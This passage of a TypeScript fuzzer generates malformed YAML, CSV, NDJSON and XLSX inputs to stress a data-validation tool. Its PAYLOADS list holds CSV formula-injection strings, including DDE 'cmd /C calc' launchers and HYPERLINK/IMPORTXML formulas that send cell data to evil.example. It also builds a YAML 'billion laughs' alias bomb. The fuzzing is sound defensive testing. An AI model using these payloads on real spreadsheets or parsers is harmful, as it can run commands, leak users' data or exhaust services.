// The mutation classes of issue 11 §4. Each mutator turns a seed (a shipped YAML file or a slice of a
// sample data file) into one input: the files to put on disk and the command to run. Everything is drawn
// from the input's own Rng, so a run is repeatable from its seed.
import { crc32, deflateRawSync } from 'node:zlib';
import iconv from 'iconv-lite';
import type { Corpus, DataSeed } from './corpus.ts';
import { Rng, inputSeed } from './rng.ts';
import { parseCsv } from './runner.ts';
import { CLASSES, type ClassName, type Entry, type Spec } from './spec.ts';
import { writeZip } from './zip.ts';

const NOW = '2026-07-10T09:00:00+08:00';
const utf8 = (s: string): Uint8Array => new TextEncoder().encode(s);
const file = (rel: string, data: Uint8Array | string): Entry => ({ rel, type: 'file', data: typeof data === 'string' ? utf8(data) : data });

type Mutator = (r: Rng, c: Corpus) => Spec;

// ---------- building inputs ----------

function commonFlags(r: Rng): string[] {
  const f: string[] = [];
  if (r.chance(0.3)) f.push('--json');
  if (r.chance(0.2)) f.push('--lang', 'en');
  return f;
}

/** Validate one mutated file of the tree: on its own against the rest (mostly), or the whole tree. */
function validateSpec(r: Rng, cls: ClassName, mutator: string, entries: Entry[], target?: string): Spec {
  const tree = r.chance(0.2);
  const args = tree ? (r.chance(0.3) ? ['--summary'] : []) : [`{tree}/${target ?? entries[0]!.rel}`, '--tree', '{tree}'];
  return { cls, mutator, command: 'validate', entries: entries.map((entry) => ({ root: 'tree', entry })), args: [...args, ...commonFlags(r)], cwdTree: tree };
}

interface SubmitOpts {
  mapping?: string;
  accept?: boolean;
  extra?: string[];
  work?: Entry[];
  tree?: Entry[];
  freshDb?: boolean;
  checkRejects?: boolean;
}

function submitSpec(r: Rng, cls: ClassName, mutator: string, name: string, entry: Entry | null, kind: string, o: SubmitOpts = {}): Spec {
  const accept = o.accept ?? r.chance(0.35);
  const args = [`{work}/${name}`, '--kind', kind, '--db', '{db}', '--tree', '{tree}', '--now', NOW];
  if (o.mapping) args.push('--mapping', o.mapping);
  if (accept) args.push('--accept-valid', '--rejects', '{rejects}');
  args.push(...(o.extra ?? []), ...commonFlags(r));
  const entries: Spec['entries'] = [];
  if (entry) entries.push({ root: 'work', entry });
  for (const e of o.work ?? []) entries.push({ root: 'work', entry: e });
  for (const e of o.tree ?? []) entries.push({ root: 'tree', entry: e });
  const spec: Spec = { cls, mutator, command: 'submit', entries, args, allOrNothing: !accept };
  if (o.freshDb) spec.freshDb = true;
  if (o.checkRejects || accept) spec.checkRejects = true;
  return spec;
}

function slice(r: Rng, s: DataSeed, min = 1, max = 25): string[] {
  const n = Math.min(s.lines.length, r.int(min, max));
  const at = r.int(0, s.lines.length - n);
  return s.lines.slice(at, at + n);
}

const tabular = (c: Corpus) => c.data.filter((d) => d.format === 'csv');
const ndjsonSeeds = (c: Corpus) => c.data.filter((d) => d.format === 'ndjson');
const xlsxSeed = (c: Corpus) => c.data.find((d) => d.format === 'xlsx')!;

export function csvCell(v: string): string {
  return /[",\n\r]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}
const splitCsv = (line: string): string[] => parseCsv(line)[0] ?? [''];
const joinCsv = (cells: string[]): string => cells.map(csvCell).join(',');

function csvText(r: Rng, header: string, lines: string[]): string {
  const nl = r.chance(0.2) ? '\r\n' : '\n';
  return [header, ...lines].join(nl) + (r.chance(0.9) ? nl : '');
}

function encodeSeed(s: DataSeed, text: string): Uint8Array {
  return s.encoding ? iconv.encode(text, s.encoding) : utf8(text);
}

function submitCsv(r: Rng, cls: ClassName, mutator: string, s: DataSeed, text: string | Uint8Array, o: SubmitOpts = {}): Spec {
  const name = s.name.split('/').pop()!;
  const data = typeof text === 'string' ? encodeSeed(s, text) : text;
  return submitSpec(r, cls, mutator, name, file(name, data), s.kind, { ...(s.mapping ? { mapping: s.mapping } : {}), ...o });
}

function submitNdjson(r: Rng, cls: ClassName, mutator: string, s: DataSeed, text: string | Uint8Array, o: SubmitOpts & { ext?: string } = {}): Spec {
  const name = s.name.split('/').pop()!.replace(/\.ndjson$/, o.ext ?? '.ndjson');
  return submitSpec(r, cls, mutator, name, file(name, typeof text === 'string' ? utf8(text) : text), s.kind, o);
}

/** An XLSX made from the sample's parts with these data rows (and header rows), the sheet XML optionally rewritten. */
export function xlsxBytes(c: Corpus, rows: string[], o: { headerRows?: string; sheet?: (xml: string) => string; store?: boolean } = {}): Buffer {
  let xml = c.xlsx.before + (o.headerRows ?? c.xlsx.headerRows) + rows.join('') + c.xlsx.after;
  if (o.sheet) xml = o.sheet(xml);
  const entries = c.xlsx.entries.map((e) => (e.name === 'xl/worksheets/sheet1.xml' ? { name: e.name, data: utf8(xml) } : e));
  return writeZip(entries, o.store ? { store: true } : {});
}

function submitXlsx(r: Rng, cls: ClassName, mutator: string, bytes: Uint8Array, o: SubmitOpts = {}): Spec {
  return submitSpec(r, cls, mutator, 'service-hall.xlsx', file('service-hall.xlsx', bytes), 'work-orders', { mapping: 'service-hall-xlsx', ...o });
}

const xmlEsc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/** Replace the text of the k-th string cell of some row. */
function setXlsxCell(r: Rng, row: string, value: string): string {
  const cells = [...row.matchAll(/<v>[^<]*<\/v>/g)];
  if (!cells.length) return row;
  const m = r.pick(cells);
  return row.slice(0, m.index) + `<v>${xmlEsc(value)}</v>` + row.slice(m.index! + m[0].length);
}

function pickYaml(r: Rng, c: Corpus, filter?: (rel: string) => boolean): { rel: string; text: string } {
  const xs = filter ? c.yaml.filter((y) => filter(y.rel)) : c.yaml;
  return r.pick(xs);
}

const lines = (t: string): string[] => t.split('\n');

/** A YAML mutation, applied either to a standards file (validate) or to a mapping given with --mapping (submit). */
function yamlInput(r: Rng, c: Corpus, cls: ClassName, mutator: string, mutate: (text: string, r: Rng) => string | Uint8Array): Spec {
  if (r.chance(0.12)) {
    // Mappings with a sample file to read through them (the round workbook's mapping has none in the corpus).
    const m = r.pick(c.mappings.filter((x) => x.id === 'service-hall-xlsx' || tabular(c).some((d) => d.mapping === x.id)));
    const out = mutate(m.text, r);
    const seed = m.id === 'service-hall-xlsx' ? xlsxSeed(c) : tabular(c).find((d) => d.mapping === m.id)!;
    const mappingEntry = file('mapping.yaml', out);
    const spec = seed.format === 'xlsx' ? submitXlsx(r, cls, `${mutator} (mapping)`, xlsxBytes(c, slice(r, seed)), { mapping: '{work}/mapping.yaml', work: [mappingEntry] }) : submitCsv(r, cls, `${mutator} (mapping)`, seed, csvText(r, seed.header, slice(r, seed)), { mapping: '{work}/mapping.yaml', work: [mappingEntry] });
    spec.shrinkEntry = 1;
    return spec;
  }
  if (r.chance(0.08)) {
    // A broken file the submission's tree needs: submit must refuse with a message, not crash.
    const y = pickYaml(r, c, (rel) => /^(school|activities|mappings)/.test(rel));
    const s = r.pick(ndjsonSeeds(c));
    const spec = submitNdjson(r, cls, `${mutator} (tree for submit)`, s, slice(r, s).join('\n') + '\n', { tree: [file(y.rel, mutate(y.text, r))] });
    spec.shrinkEntry = 1;
    return spec;
  }
  const y = pickYaml(r, c);
  return validateSpec(r, cls, mutator, [file(y.rel, mutate(y.text, r))]);
}

function onLine(text: string, r: Rng, pred: (l: string) => boolean, f: (l: string) => string): string {
  const ls = lines(text);
  const idx = ls.map((l, i) => (pred(l) ? i : -1)).filter((i) => i >= 0);
  if (!idx.length) return text;
  const k = r.pick(idx);
  ls[k] = f(ls[k]!);
  return ls.join('\n');
}

// ---------- the classes ----------

const yamlSyntax: Record<string, (t: string, r: Rng) => string | Uint8Array> = {
  'tab-indent': (t, r) => onLine(t, r, (l) => /^ +\S/.test(l), (l) => l.replace(/^ +/, (s) => (r.chance(0.5) ? '\t' : s.slice(1) + '\t'))),
  'fullwidth-colon': (t, r) => onLine(t, r, (l) => /\S: /.test(l), (l) => l.replace(/: /, r.chance(0.5) ? '： ' : '：')),
  'unclosed-quote': (t, r) => onLine(t, r, (l) => /: \S/.test(l), (l) => l.replace(/: /, `: ${r.pick(['"', "'", '"\\', '[', '{'])}`)),
  truncate: (t, r) => {
    const b = utf8(t);
    return b.slice(0, r.int(0, b.length - 1));
  },
  indicator: (t, r) => {
    const at = r.int(0, t.length);
    return t.slice(0, at) + r.pick(['{', '}', '[', ']', '&', '*', '!', '|', '>', '%', '@', '`', '?', '- ', ': ', '#', '!!binary ', '!!timestamp ', '<<: ', '\n---\n', '\n...\n', '\u0000', '\u200b', '\r', '\u3000']) + t.slice(at);
  },
  'line-edit': (t, r) => {
    const ls = lines(t);
    const k = r.int(0, Math.max(0, ls.length - 1));
    const op = r.int(0, 3);
    if (op === 0) ls.splice(k, 1);
    else if (op === 1) ls.splice(k, 0, ls[k] ?? '');
    else if (op === 2) ls[k] = ' ' + (ls[k] ?? '');
    else ls[k] = (ls[k] ?? '').replace(/^ {2}/, '');
    return ls.join('\n');
  },
  'empty-forms': (_t, r) => r.pick(['', '\n', '   \n\n', '# only a comment\n', 'null\n', '~\n', '---\n', '...\n', '--- ~\n', '[]\n', '{}\n', '"text"\n', '42\n', 'true\n', '- a\n- b\n', 'kind: requirements\n', 'kind:\n', '---\n---\n']),
  'multi-document': (t) => `${t}\n---\n${t}`,
  'kind-swap': (t, r) => t.replace(/^kind:\s*\S+/m, `kind: ${r.pick(['standard', 'requirements', 'profile', 'register', 'school-calendar', 'mapping', 'notices', 'service-desk', 'scorecard', 'activities', 'requirement-test', 'nonsense', '[a]', '{}'])}`),
  'type-swap': (t, r) => onLine(t, r, (l) => /: \S/.test(l), (l) => l.replace(/: .*/, `: ${r.pick(['[]', '{}', '~', '-1', '1e999', '.nan', '0x10', 'true', '""', "''", '2026-02-30', '!!str', '[[]]', '{a: {b: []}}'])}`)),
};

function aliasMutation(t: string, r: Rng): string {
  const op = r.int(0, 6);
  if (op === 0) return onLine(t, r, (l) => /^\s*[\w-]+: \S/.test(l), (l) => l.replace(/: .*/, ': &c [*c]'));
  if (op === 1) return onLine(t, r, (l) => /^\s*[\w-]+: \S/.test(l), (l) => l.replace(/: .*/, ': &c {k: *c, j: [*c, *c]}'));
  if (op === 2) {
    // billion laughs: each level a list of aliases to the one before.
    const depth = r.int(4, 12);
    const fan = r.int(4, 10);
    let s = 'x-lol:\n  l0: &l0 "lol"\n';
    for (let i = 1; i <= depth; i++) s += `  l${i}: &l${i} [${Array.from({ length: fan }, () => `*l${i - 1}`).join(', ')}]\n`;
    return r.chance(0.5) ? s + t : t.replace(/\n/, `\n${s}`);
  }
  if (op === 3) return onLine(t, r, (l) => /: \S/.test(l), (l) => l.replace(/: .*/, `: *${r.pick(['nope', 'c', 'a b', ''])}`));
  if (op === 4) return onLine(t, r, (l) => /^\s*[\w-]+: \S/.test(l), (l) => l.replace(/^(\s*)[\w-]+: (.*)/, '$1&k key: $2\n$1*k : again'));
  if (op === 5) return onLine(t, r, (l) => /^\s+[\w-]+: \S/.test(l), (l) => `${l.replace(/\S.*/, '')}<<: ${r.pick(['*nope', '[*x]', '{}', '&m {<<: *m}'])}\n${l}`);
  // An anchor on a whole top-level block, then that block used many times.
  const m = /^(\w[\w-]*):\s*$/m.exec(t);
  if (!m) return t;
  const many = Array.from({ length: r.int(2, 120) }, (_, i) => `  a${i}: *blk`).join('\n');
  return t.replace(m[0], `${m[1]}: &blk`) + `\nx-many:\n${many}\n`;
}

function deepYaml(r: Rng): string {
  const n = r.pick([100, 1000, 5000, 20000, 100000]);
  const op = r.int(0, 3);
  if (op === 0) return '['.repeat(n) + ']'.repeat(n);
  if (op === 1) return '{a: '.repeat(n) + '1' + '}'.repeat(n);
  if (op === 2) {
    const m = Math.min(n, 1500);
    return Array.from({ length: m }, (_, i) => `${' '.repeat(2 * i)}k:`).join('\n') + ' 1';
  }
  return Array.from({ length: Math.min(n, 3000) }, () => '- ').join('') + 'x';
}

function deepJson(r: Rng): string {
  const n = r.pick([100, 1000, 10000, 100000, 1000000]);
  return r.chance(0.5) ? '['.repeat(n) + ']'.repeat(n) : '{"a":'.repeat(n) + '1' + '}'.repeat(n);
}

const PAYLOADS = [
  '=cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-1+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=1+1',
  '=DDE("cmd";"/C calc";"!A0")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '+1',
  '-1',
  '@A1',
  '=-1',
  ' =1+1',
  '＝1+1',
  '"=1+1"',
  '\'=1+1',
  '=1+1\n=2+2',
  ';=1+1',
  '%0A=1+1',
];

const TIMES = [
  '0000-03-05T08:00:00+08:00', '0042-03-05T08:00:00+08:00', '0099-12-31T23:59:59+08:00', '0100-01-01T00:00:00+08:00',
  '2026-03-05T08:00:00+25:00', '2026-03-05T08:00:00+99:99', '2026-03-05T08:00:00-24:00', '2026-03-05T08:00:00+14:01',
  '2026-03-05T24:00:00+08:00', '2026-03-05T24:00', '2026-02-30T08:00:00+08:00', '2026-02-29T08:00:00+08:00', '2024-02-29T08:00:00+08:00',
  '2026-13-01T08:00:00+08:00', '2026-00-10T08:00:00+08:00', '2026-03-05T23:59:60+08:00', '2026-03-05T25:00:00+08:00',
  '2026-03-05 08:00', '2026-03-05T08:00', '2026-03-05', '20260305T0800', '2026-03-05T08:00:00Z', '2026-03-05t08:00:00z',
  '+275760-09-13T00:00:00Z', '-000001-01-01T00:00:00Z', '9999-12-31T23:59:59+14:00', '1969-12-31T23:59:59-12:00',
  '2026-03-08T02:30:00', '2026-10-25T01:30:00', '1e10', 'NaN', '', ' ', '２０２６－０３－０５Ｔ０８：００', '2026/3/5 8:00',
  '2026-03-05T08:00:00.123456789+08:00', '2026-03-05T08:00:00,5+08:00', '2026-W10-4', '2026-064',
];
const SERIALS = ['-1', '0', '60', '61', '0.5', '1e9', '2958466', '2958465.99999', 'NaN', '1e308', '-0', '46076.3333333333333333', '４６０７６'];
const GBK_TIMES = ['2026/2/30 10:33', '0042/2/23 10:33', '0000/1/1 0:00', '2026/2/23 24:00', '2026/2/23 25:61', '2026/13/1 8:00', '99999/1/1 1:00', '2026年2月23日 10:33', '2026/2/23'];
const ZONES = ['America/New_York', 'Asia/Kathmandu', 'Pacific/Kiritimati', 'Etc/GMT+12', 'UTC', 'Mars/Olympus', '', 'Asia/Shanghai ', '+08:00', 'Europe/London'];

function timeCells(header: string): number[] {
  return splitCsv(header)
    .map((h, i) => (/_at$|时间|日期|^date$|^period$/.test(h) ? i : -1))
    .filter((i) => i >= 0);
}

const CLASS_MUTATORS: Record<ClassName, Record<string, Mutator>> = {
  'yaml-syntax': Object.fromEntries(Object.entries(yamlSyntax).map(([name, f]) => [name, (r: Rng, c: Corpus) => yamlInput(r, c, 'yaml-syntax', name, f)])),

  encodings: {
    'yaml-encoded': (r, c) => {
      const y = pickYaml(r, c);
      const enc = r.pick(['gb18030', 'utf16le-bom', 'utf16be-bom', 'utf16le', 'utf32-bom', 'latin1']);
      const data = enc === 'gb18030' ? iconv.encode(y.text, 'gb18030') : enc === 'utf16le-bom' ? iconv.encode(y.text, 'utf16le', { addBOM: true }) : enc === 'utf16be-bom' ? Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(y.text, 'utf16be')]) : enc === 'utf16le' ? iconv.encode(y.text, 'utf16le') : enc === 'utf32-bom' ? Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.from(y.text, 'utf16le')]) : iconv.encode(y.text, 'latin1');
      return validateSpec(r, 'encodings', `yaml ${enc}`, [file(y.rel, data)]);
    },
    'yaml-bad-bytes': (r, c) => {
      const y = pickYaml(r, c);
      const b = Buffer.from(utf8(y.text));
      const bad = r.pick([[0xff], [0xc3], [0xed, 0xa0, 0x80], [0xc0, 0xaf], [0x80], [0xf4, 0x90, 0x80, 0x80], [0x00], [0xef, 0xbb, 0xbf]]);
      const at = r.int(0, b.length);
      return validateSpec(r, 'encodings', 'yaml bad bytes', [file(y.rel, Buffer.concat([b.subarray(0, at), Buffer.from(bad), b.subarray(at)]))]);
    },
    'yaml-bom-only': (r, c) => {
      const y = pickYaml(r, c);
      return validateSpec(r, 'encodings', 'yaml BOM only', [file(y.rel, r.pick([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from([0xef, 0xbb, 0xbf, 0x0a]), Buffer.from([0xff, 0xfe]), Buffer.from([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf])]))]);
    },
    'csv-encoded': (r, c) => {
      const s = r.pick(tabular(c));
      const text = csvText(r, s.header, slice(r, s));
      const enc = r.pick(['gb18030', 'utf16le-bom', 'utf16be-bom', 'utf16le', 'utf8-bom', 'big5', 'shift_jis']);
      const data = enc === 'utf16le-bom' ? iconv.encode(text, 'utf16le', { addBOM: true }) : enc === 'utf16be-bom' ? Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(text, 'utf16be')]) : enc === 'utf16le' ? iconv.encode(text, 'utf16le') : enc === 'utf8-bom' ? Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), encodeSeed(s, text)]) : iconv.encode(text, enc);
      const extra = r.chance(0.3) ? ['--encoding', r.pick(['utf-8', 'gb18030', 'gbk'])] : [];
      return submitCsv(r, 'encodings', `csv ${enc}`, s, data, { extra });
    },
    'csv-bad-bytes': (r, c) => {
      const s = r.pick(tabular(c));
      const ls = slice(r, s, 2, 40);
      const b = Buffer.from(encodeSeed(s, csvText(r, s.header, ls)));
      const parts: Buffer[] = [];
      let last = 0;
      for (let k = r.int(1, 3); k > 0; k--) {
        const at = r.int(last, b.length);
        parts.push(b.subarray(last, at), Buffer.from(r.pick([[0xff], [0xc3], [0xed, 0xa0, 0x80], [0x80, 0x80], [0xfe]])));
        last = at;
      }
      parts.push(b.subarray(last));
      return submitCsv(r, 'encodings', 'csv bad bytes', s, Buffer.concat(parts), r.chance(0.3) ? { extra: ['--encoding', 'utf-8'] } : {});
    },
    'csv-late-bad-byte': (r, c) => {
      // Valid UTF-8 for more than the first megabyte, then one bad byte.
      const s = tabular(c).find((d) => !d.encoding)!;
      const row = s.lines[0]!.replace(/^[^,]+/, 'WO-LATE-{i}');
      return submitSpec(r, 'encodings', 'csv bad byte after 1 MB', 'late.csv', { rel: 'late.csv', type: 'repeat', head: s.header + '\n', body: row + '\n', times: r.int(5000, 9000), tail: s.lines[1]!.replace(/中|楼|室|,/, '\xff') + '\n' }, s.kind);
    },
    'csv-bom-only': (r, c) => {
      const s = r.pick(tabular(c));
      return submitCsv(r, 'encodings', 'csv BOM only', s, r.pick([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from([0xff, 0xfe]), Buffer.from([0xfe, 0xff]), Buffer.from([0xef, 0xbb, 0xbf, 0x0d, 0x0a])]));
    },
    'ndjson-encoded': (r, c) => {
      const s = r.pick(ndjsonSeeds(c));
      const text = slice(r, s).join('\n') + '\n';
      const op = r.int(0, 3);
      const data = op === 0 ? iconv.encode(text, 'utf16le', { addBOM: true }) : op === 1 ? iconv.encode(text, 'gb18030') : op === 2 ? Buffer.concat([Buffer.from(utf8(text)).subarray(0, 40), Buffer.from([0xff, 0xfe]), Buffer.from(utf8(text)).subarray(40)]) : Buffer.from([0xef, 0xbb, 0xbf, ...utf8(text)]);
      return submitNdjson(r, 'encodings', `ndjson ${['utf16', 'gb18030', 'bad bytes', 'bom'][op]}`, s, data, r.chance(0.3) ? { ext: '.json' } : {});
    },
  },

  aliases: {
    'yaml-aliases': (r, c) => yamlInput(r, c, 'aliases', 'aliases', aliasMutation),
  },

  nesting: {
    'yaml-deep-value': (r, c) => yamlInput(r, c, 'nesting', 'deep yaml value', (t, rr) => onLine(t, rr, (l) => /^\s*[\w-]+: \S/.test(l), (l) => l.replace(/: .*/, `: ${deepYaml(rr).replace(/\n/g, ' ')}`))),
    'yaml-deep-document': (r, c) => yamlInput(r, c, 'nesting', 'deep yaml document', (_t, rr) => deepYaml(rr)),
    'json-deep-file': (r, c) => {
      const s = r.pick(ndjsonSeeds(c));
      return submitNdjson(r, 'nesting', 'deep json file', s, deepJson(r), { ext: '.json' });
    },
    'json-deep-cell': (r, c) => {
      const s = r.pick(ndjsonSeeds(c));
      const ls = slice(r, s);
      const k = r.int(0, ls.length - 1);
      ls[k] = ls[k]!.replace(/:("[^"]*"|\d+|true|false)/, `:${deepJson(r)}`);
      const asJson = r.chance(0.3);
      return submitNdjson(r, 'nesting', `deep json cell (${asJson ? 'json' : 'ndjson'})`, s, asJson ? `[${ls.join(',')}]` : ls.join('\n') + '\n', asJson ? { ext: '.json' } : {});
    },
  },

  sizes: {
    'huge-cell': (r, c) => {
      const s = r.pick([...tabular(c), ...ndjsonSeeds(c)]);
      const n = r.pick([1 << 20, 1 << 20, 2 << 20, 8 << 20]);
      const big = r.chance(0.5) ? 'x'.repeat(n) : '长'.repeat(n / 3);
      if (s.format === 'csv') {
        const ls = slice(r, s, 1, 5);
        const cells = splitCsv(ls[0]!);
        cells[r.int(0, cells.length - 1)] = big;
        ls[0] = joinCsv(cells);
        return submitCsv(r, 'sizes', `huge cell ${n >> 20} MB (csv)`, s, csvText(r, s.header, ls));
      }
      const ls = slice(r, s, 1, 5);
      ls[0] = ls[0]!.replace(/:"[^"]*"/, `:"${big}"`);
      return submitNdjson(r, 'sizes', `huge cell ${n >> 20} MB (ndjson)`, s, ls.join('\n') + '\n');
    },
    'many-rows': (r, c) => {
      const s = tabular(c).find((d) => !d.encoding)!;
      const times = r.pick([500, 2000, 10000, 40000]);
      const bad = r.chance(0.5);
      const row = s.lines[r.int(0, s.lines.length - 1)]!.replace(/^[^,]+/, 'WO-MANY-{i}');
      return submitSpec(r, 'sizes', `many rows ${times}${bad ? ' + a bad last row' : ''}`, 'many.csv', { rel: 'many.csv', type: 'repeat', head: s.header + '\n', body: row + '\n', times, tail: bad ? row.replace('{i}', 'X').replace(/,(east|west|main|north|south)\w*,/, ',nowhere,') + ',extra\n' : '' }, s.kind);
    },
    'many-ndjson-rows': (r, c) => {
      const s = c.data.find((d) => d.name === 'complaints.ndjson')!;
      const times = r.pick([1000, 5000, 30000]);
      const row = s.lines[0]!.replace(/"id":"[^"]*"/, '"id":"CP-MANY-{i}"');
      return submitSpec(r, 'sizes', `many ndjson rows ${times}`, 'many.ndjson', { rel: 'many.ndjson', type: 'repeat', head: '', body: row + '\n', times, tail: r.chance(0.5) ? '{"id": 1}\n' : '' }, s.kind);
    },
    'many-columns': (r, c) => {
      const s = tabular(c).find((d) => !d.encoding)!;
      const n = r.pick([1000, 5000, 30000]);
      const extra = Array.from({ length: n }, (_, i) => `c${i}`).join(',');
      const ls = slice(r, s, 1, 3).map((l) => l + ',' + ','.repeat(n - 1));
      return submitCsv(r, 'sizes', `many columns ${n}`, s, csvText(r, s.header + ',' + extra, ls));
    },
    'long-line': (r, c) => {
      const s = r.pick(ndjsonSeeds(c));
      const n = r.pick([1 << 20, 4 << 20, 16 << 20]);
      return submitSpec(r, 'sizes', `one line of ${n >> 20} MB without a newline`, 'long.ndjson', { rel: 'long.ndjson', type: 'repeat', head: '', body: 'a'.repeat(1024), times: n >> 10, tail: '' }, s.kind);
    },
    'huge-file': (r, c) => {
      const s = tabular(c).find((d) => !d.encoding)!;
      const times = r.pick([16 << 10, 64 << 10]);
      return submitSpec(r, 'sizes', `huge file ${(times * 1024) >> 20} MB of comments`, 'huge.csv', { rel: 'huge.csv', type: 'repeat', head: s.header + '\n', body: s.lines[0]!.slice(0, 15) + ',' + 'z'.repeat(1000) + '\n', times, tail: '' }, s.kind, { accept: true });
    },
    'huge-yaml': (r, c) => {
      const y = pickYaml(r, c);
      const op = r.int(0, 2);
      const n = r.pick([1 << 20, 4 << 20, 16 << 20]);
      const body = op === 0 ? '# ' + 'c'.repeat(1021) + '\n' : op === 1 ? `  - ${'x'.repeat(1020)}\n` : 'y'.repeat(1024);
      const head = op === 0 ? y.text + '\n' : op === 1 ? y.text + '\nx-big:\n' : y.text + '\nx-big: ';
      return { ...validateSpec(r, 'sizes', `huge yaml ${n >> 20} MB (${['comments', 'list', 'scalar'][op]})`, [{ rel: y.rel, type: 'repeat', head, body, times: n >> 10, tail: '\n' }]) };
    },
    'xlsx-many-rows': (r, c) => {
      const s = xlsxSeed(c);
      const times = r.pick([500, 2000, 10000]);
      const row = s.lines[0]!.replace(/WO-[\d-]+/, 'WO-X-{i}');
      const xml = c.xlsx.before + c.xlsx.headerRows + Array.from({ length: times }, (_, i) => row.replaceAll('{i}', String(i))).join('') + c.xlsx.after;
      const bytes = writeZip(c.xlsx.entries.map((e) => (e.name === 'xl/worksheets/sheet1.xml' ? { name: e.name, data: utf8(xml) } : e)));
      return submitXlsx(r, 'sizes', `xlsx ${times} rows`, bytes);
    },
  },

  duplicates: {
    'yaml-duplicate-key': (r, c) => yamlInput(r, c, 'duplicates', 'duplicate key', (t, rr) => onLine(t, rr, (l) => /^\s*[\w-]+:/.test(l), (l) => `${l}\n${l}`)),
    'yaml-duplicate-id': (r, c) => {
      const y = pickYaml(r, c, (rel) => /^(standard|profiles|school|activities|scoring)\//.test(rel) || rel === 'activities.yaml');
      const ls = lines(y.text);
      const starts = ls.map((l, i) => (/^\s*- (id|code):/.test(l) ? i : -1)).filter((i) => i >= 0);
      if (!starts.length) return validateSpec(r, 'duplicates', 'duplicate id (none)', [file(y.rel, y.text)]);
      const k = r.pick(starts);
      const ind = /^\s*/.exec(ls[k]!)![0].length;
      let e = k + 1;
      while (e < ls.length && (ls[e]!.trim() === '' || /^\s*/.exec(ls[e]!)![0].length > ind)) e++;
      const block = ls.slice(k, e);
      ls.splice(e, 0, ...block);
      return validateSpec(r, 'duplicates', 'duplicate id', [file(y.rel, ls.join('\n'))]);
    },
    'yaml-duplicate-file': (r, c) => {
      const y = pickYaml(r, c, (rel) => !rel.startsWith('tests/'));
      const copy = y.rel.replace(/\.yaml$/, '.copy.yaml');
      const spec = validateSpec(r, 'duplicates', 'a file copied beside itself', [file(copy, y.text)]);
      return spec;
    },
    'csv-duplicate-header': (r, c) => {
      const s = r.pick(tabular(c));
      const h = splitCsv(s.header);
      const op = r.int(0, 4);
      const i = r.int(0, h.length - 1);
      const j = r.int(0, h.length - 1);
      if (op === 0) h[i] = h[j]!;
      else if (op === 1) h[i] = '';
      else if (op === 2) h[i] = ' ';
      else if (op === 3) h.push(h[i]!);
      else h.push('');
      const ls = slice(r, s).map((l) => (op >= 3 ? l + ',v' : l));
      return submitCsv(r, 'duplicates', `csv header ${['renamed to another', 'blank', 'whitespace', 'repeated at end', 'blank at end'][op]}`, s, csvText(r, joinCsv(h), ls));
    },
    'csv-duplicate-rows': (r, c) => {
      const s = r.pick(tabular(c));
      const ls = slice(r, s, 1, 10);
      const k = r.int(0, ls.length - 1);
      ls.splice(r.int(0, ls.length), 0, ls[k]!);
      return submitCsv(r, 'duplicates', 'csv duplicate id', s, csvText(r, s.header, ls));
    },
    'ndjson-duplicates': (r, c) => {
      const s = r.pick(ndjsonSeeds(c));
      const ls = slice(r, s, 1, 10);
      const op = r.int(0, 1);
      if (op === 0) ls.push(ls[r.int(0, ls.length - 1)]!);
      else ls[0] = ls[0]!.replace(/^\{("[^"]+":"[^"]*"),/, '{$1,$1,').replace(/^\{"(\w+)":("[^"]*"),/, '{"$1":$2,"$1":"other",');
      return submitNdjson(r, 'duplicates', op ? 'json duplicate keys' : 'ndjson duplicate id', s, ls.join('\n') + '\n');
    },
    'xlsx-duplicate-header': (r, c) => {
      const s = xlsxSeed(c);
      const hdr = c.xlsx.headerRows.replace(/(<row r="2"[^>]*>)(.*)(<\/row>)$/, (_m, a: string, b: string, z: string) => {
        const vs = [...b.matchAll(/<v>([^<]*)<\/v>/g)].map((m) => m[1]!);
        const pick = r.chance(0.5) ? r.pick(vs) : '';
        let n = 0;
        const target = r.int(0, vs.length - 1);
        return a + b.replace(/<v>[^<]*<\/v>/g, (m) => (n++ === target ? `<v>${pick}</v>` : m)) + z;
      });
      return submitXlsx(r, 'duplicates', 'xlsx duplicate/blank header', xlsxBytes(c, slice(r, s), { headerRows: hdr }));
    },
  },

  formulas: {
    'csv-payloads': (r, c) => {
      const s = r.pick(tabular(c));
      const ls = slice(r, s, 1, 8).map((l) => {
        const cells = splitCsv(l);
        for (let k = r.int(1, 3); k > 0; k--) cells[r.int(0, cells.length - 1)] = r.pick(PAYLOADS);
        return joinCsv(cells);
      });
      const header = r.chance(0.3) ? s.header + ',' + csvCell(r.pick(PAYLOADS)) : s.header;
      const rows = header === s.header ? ls : ls.map((l) => l + ',' + csvCell(r.pick(PAYLOADS)));
      return submitCsv(r, 'formulas', 'csv cells with formulas', s, csvText(r, header, rows), { accept: true });
    },
    'ndjson-payloads': (r, c) => {
      const s = r.pick(ndjsonSeeds(c));
      const ls = slice(r, s, 1, 8).map((l) => (r.chance(0.2) ? r.pick(PAYLOADS).replace(/\n/g, ' ') : l.replace(/:"[^"]*"/g, (m) => (r.chance(0.3) ? `:${JSON.stringify(r.pick(PAYLOADS))}` : m))));
      return submitNdjson(r, 'formulas', 'ndjson values with formulas', s, ls.join('\n') + '\n', { accept: true });
    },
    'xlsx-payloads': (r, c) => {
      const s = xlsxSeed(c);
      const rows = slice(r, s, 1, 6).map((row) => setXlsxCell(r, row, r.pick(PAYLOADS)));
      return submitXlsx(r, 'formulas', 'xlsx cells with formulas', xlsxBytes(c, rows), { accept: true });
    },
  },

  times: {
    'csv-times': (r, c) => {
      const s = r.pick(tabular(c));
      const idx = timeCells(s.header);
      const ls = slice(r, s, 1, 6).map((l) => {
        const cells = splitCsv(l);
        const i = r.pick(idx);
        cells[i] = s.encoding ? r.pick([...GBK_TIMES, ...TIMES]) : r.pick(TIMES);
        return joinCsv(cells);
      });
